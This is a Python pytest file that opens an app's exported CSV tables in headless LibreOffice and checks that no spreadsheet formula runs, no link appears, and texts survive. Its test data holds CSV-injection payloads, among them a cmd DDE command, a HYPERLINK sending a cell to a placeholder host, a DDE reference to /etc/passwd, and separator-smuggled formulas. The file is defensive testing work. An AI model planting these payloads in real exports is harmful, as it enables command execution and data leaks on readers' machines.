"""LibreOffice as an outside witness: no formula runs however a table is opened, and texts survive.

Each way of opening is one start of ``soffice`` without a window and with a profile of its own; what it
made of the tables is read from the flat XML (OpenDocument 1.3) that it writes. Excel cannot be asked here.
"""

import csv
import io
import shutil
import subprocess
import zipfile
from xml.etree import ElementTree as ET

import pytest

from tests.builders import make, record_id
from tests.bundle.samples import sample_rows
from tests.strategies import AWKWARD_TEXTS
from walkapp.bundle import write_bundle
from walkapp.bundle.cells import restore, restore_format_1
from walkapp.bundle.layout import README_TEXT
from walkapp.model.records import CarriedRecord, Note, Withdrawal

SOFFICE = shutil.which("soffice")
pytestmark = pytest.mark.skipif(
    SOFFICE is None, reason="LibreOffice is not here: on Debian, apt-get install libreoffice-calc"
)

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "'=1+1", "{=1+1}", "=A1", "==", "=-1", "-- see", "@-1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://invalid.example/?"&A1,"more")',
    '=DDE("soffice","/etc/passwd","a1")', '=WEBSERVICE("http://invalid.example/")', '=INDIRECT("A1")',
)  # fmt: skip
SEPARATORS = (",", ";", "|", "\t", "\n", '"', '",', '";', '\n"', ';"', ';""', ',"', "\n\t", ";\t")
WITHIN = tuple(
    f"worn{separator}{formula}{end}"
    for separator in SEPARATORS
    for formula in ("=1+1", "+1+1", "@SUM(1)")
    for end in ("", ";", '"', "\t", ";x")
)
LIKE_NUMBERS = (
    "0123456", "12345678901234567890", "1-2", "MAR1", "1e5", "1/2", "2026-03-02", "01.02.2026", "12:30",
    "5%", "TRUE", "1,5", "1.5", "-12.5", "+49123", "€5", "1 000", "#REF!", "#N/A", "R1C1", "NaN", "1e999",
)  # fmt: skip
OTHERS = (
    "Ü ä ß 漢字 🔧 e\u0301", "two\nlines", "one\n\nthree", "- first\n- second", "http://invalid.example/",
    "mailto:qe@invalid.example", "b" * 4_000, '"quoted"', "''", "'", "\\N", "  two  blanks  ",
)  # fmt: skip
# A carriage return is refused in texts, and so is every other control character but these two.
TEXTS = tuple(dict.fromkeys((*FORMULAS, *WITHIN, *LIKE_NUMBERS, *OTHERS, *AWKWARD_TEXTS)))

# Tokens of the filter "Text - txt - csv (StarCalc)": separators, text delimiter, character set (76 is
# UTF-8), first line, format of each column (2 is text), language, quoted fields as text, detect special
# numbers, three for export, sheet, evaluate formulas (LibreOffice help, "Filter Options for CSV").
AS_README_SAYS = "44,34,76,1," + "/".join(f"{column}/2" for column in range(1, 31))
EVALUATING = "34,76,1,,0,false,true,false,false,false,0,true"
WAYS = {
    "as README says": AS_README_SAYS,
    "double click": None,
    "semicolons separate": f"59,{EVALUATING}",
    "tabs separate": f"9,{EVALUATING}",
    "bars separate": f"124,{EVALUATING}",
    "commas, semicolons and tabs separate": f"44/59/9,{EVALUATING}",
}
CARELESS = [way for way in WAYS if way != "as README says"]

TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
CALC_EXTRA = "{urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0}"
LINKS = (
    f"{TABLE}dde-link", f"{TABLE}dde-links", f"{TABLE}table-source", f"{TABLE}cell-range-source",
    f"{OFFICE}dde-source", f"{TEXT}a",
)  # fmt: skip
MOST_BYTES = 50_000_000


class Sheet:
    """What LibreOffice made of one table."""

    def __init__(self, path):
        data = path.read_bytes()
        assert len(data) <= MOST_BYTES
        assert b"<!DOCTYPE" not in data
        assert b"<!ENTITY" not in data
        self.root = ET.fromstring(data)
        self.cells = [cell for cell in self.root.iter(f"{TABLE}table-cell") if cell.attrib or len(cell)]

    @property
    def formulas(self):
        return [cell.get(f"{TABLE}formula") for cell in self.cells if cell.get(f"{TABLE}formula")]

    @property
    def errors(self):
        return [cell for cell in self.cells if cell.get(f"{CALC_EXTRA}value-type") == "error"]

    @property
    def links(self):
        return [element.tag for element in self.root.iter() if element.tag in LINKS]

    @property
    def kinds(self):
        return {kind for cell in self.cells if (kind := cell.get(f"{OFFICE}value-type"))}

    @property
    def rows(self):
        """Texts of the cells of every row that holds anything, without empty cells at its end."""
        found = []
        for row in self.root.iter(f"{TABLE}table-row"):
            cells = []
            for cell in row.findall(f"{TABLE}table-cell"):
                times = min(int(cell.get(f"{TABLE}number-columns-repeated", "1")), 50)
                cells += ["\n".join(map(_words, cell.findall(f"{TEXT}p")))] * times
            while cells and not cells[-1]:
                cells.pop()
            if cells:
                found.append(cells)
        return found


def _words(paragraph):
    parts = [paragraph.text or ""]
    for inside in paragraph:
        match inside.tag.removeprefix(TEXT):
            case "s":
                parts.append(" " * int(inside.get(f"{TEXT}c", "1")))
            case "tab":
                parts.append("\t")
            case "line-break":
                parts.append("\n")
            case _:
                parts.append(_words(inside))
        parts.append(inside.tail or "")
    return "".join(parts)


def rows_of(data):
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def csv_of(rows):
    page = io.StringIO(newline="")
    csv.writer(page, lineterminator="\r\n").writerows(rows)
    return page.getvalue().encode()


def as_format_1_wrote(text):
    """Put an apostrophe in front of the whole text only."""
    cell = f"'{text}" if text.startswith((*"=+-@＝＋－＠'", "\t", "\n")) else text
    assert text == restore_format_1(cell)
    return cell


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    return tmp_path_factory.mktemp("spreadsheet")


@pytest.fixture(scope="module")
def tables(folder):
    """The tables of a hostile bundle."""
    notes = [
        make(Note, number, station="weld", words=words) for number, words in enumerate(TEXTS, start=100)
    ]
    long_texts = ("a" * 32_767, "=" + "b" * 32_766)
    carried = [
        make(
            CarriedRecord, 10_000 + number, carried_kind="marking", cells=(("shape", text), ("gap", "-2.5"))
        )
        for number, text in enumerate((*TEXTS, *long_texts))
    ]
    # 1,700 ids in one cell are 62,899 characters; LibreOffice 7.4 cuts a cell after 65,535.
    withdrawal = make(Withdrawal, 5, replaces=tuple(record_id(number) for number in range(100, 1_800)))
    write_bundle(
        folder / "walk.zip",
        records=[*notes, *carried, withdrawal],
        rows=sample_rows(),
        photos={},
        checklists={},
    )
    with zipfile.ZipFile(folder / "walk.zip") as bundle:
        return {name: bundle.read(name) for name in bundle.namelist() if name.endswith(".csv")}


@pytest.fixture(scope="module")
def controls(tables):
    """The notes as they would be written with no rule, and with the rule of format 1."""
    texts = [[restore(cell) for cell in row] for row in rows_of(tables["note.csv"])]
    return {
        "no-rule.csv": csv_of(texts),
        "format-1.csv": csv_of([[as_format_1_wrote(text) for text in row] for row in texts]),
    }


@pytest.fixture(scope="module")
def opened(folder, tables, controls):
    """What LibreOffice made of every table and control, by the way in which it was opened."""
    files = {**tables, **controls}
    for name, data in files.items():
        (folder / name).write_bytes(data)
    found = {}
    for number, (way, tokens) in enumerate(WAYS.items()):
        out = folder / f"opened-{number}"
        subprocess.run(
            [
                SOFFICE, f"-env:UserInstallation={(folder / 'profile').as_uri()}",
                "--headless", "--norestore",
                *([f"--infilter=Text - txt - csv (StarCalc):{tokens}"] if tokens else []),
                "--convert-to", "fods", "--outdir", str(out), *(str(folder / name) for name in files),
            ],
            check=True, capture_output=True, timeout=300,
        )  # fmt: skip
        found[way] = {name: Sheet(out / f"{name.removesuffix('.csv')}.fods") for name in files}
    return found


@pytest.mark.parametrize("way", WAYS)
def test_no_formula_runs_and_nothing_is_linked(opened, tables, way):
    for name in tables:
        sheet = opened[way][name]
        assert len(sheet.rows) >= len(rows_of(tables[name]))
        assert (sheet.formulas, sheet.errors, sheet.links) == ([], [], [])


@pytest.mark.parametrize("way", CARELESS)
def test_without_the_rule_formulas_would_run(opened, way):
    # The control of the test above.
    assert opened[way]["no-rule.csv"].formulas
    assert opened[way]["no-rule.csv"].errors


def test_without_the_rule_a_double_click_would_link_to_a_file_of_the_reader(opened):
    # The control for links: out of the text =DDE("soffice","/etc/passwd","a1") comes a live link.
    assert f"{OFFICE}dde-source" in opened["double click"]["no-rule.csv"].links


@pytest.mark.parametrize("way", [way for way in CARELESS if way.endswith("separate")])
def test_with_an_apostrophe_in_front_alone_formulas_would_run(opened, way):
    # Why there is a format 2: another separator begins a cell within the text.
    assert opened[way]["format-1.csv"].formulas


def as_libreoffice_keeps(cell):
    """LibreOffice drops the tabs of a text of several lines, and README says so; nothing else changes."""
    return cell.replace("\t", "") if "\n" in cell else cell


def test_every_cell_is_a_text_and_survives_exactly_when_opened_as_readme_says(opened, tables):
    for name, data in tables.items():
        sheet = opened["as README says"][name]
        written = [[as_libreoffice_keeps(cell) for cell in row] for row in rows_of(data)]
        assert written == [row + [""] * (len(written[0]) - len(row)) for row in sheet.rows]
        assert sheet.kinds == {"string"}
    shown = opened["as README says"]["note.csv"].rows
    assert [restore(row[-1]) for row in shown[1:]] == [as_libreoffice_keeps(text) for text in TEXTS]


def test_a_double_click_changes_what_readme_warns_of(opened, tables):
    written = [row[-1] for row in rows_of(tables["note.csv"])[1:]]
    shown = [row[-1] for row in opened["double click"]["note.csv"].rows[1:]]

    found = dict(zip(written, shown, strict=True))

    assert found["0123456"] == "123456"
    assert found["12345678901234567890"] == "1.23456789012346E+019"
    assert "date" in opened["double click"]["note.csv"].kinds


def test_readme_in_the_bundle_says_how_to_open_tables():
    words = " ".join(README_TEXT.split())

    assert "a spreadsheet may turn texts into dates and drop leading zeros" in words
    assert 'character set UTF-8, separator comma, text delimiter "' in words
    assert 'the column type "text" for every column' in words
    assert "Tabs in a text of several lines may be dropped" in words
    assert "cells of more than 32,767 characters cut" in words
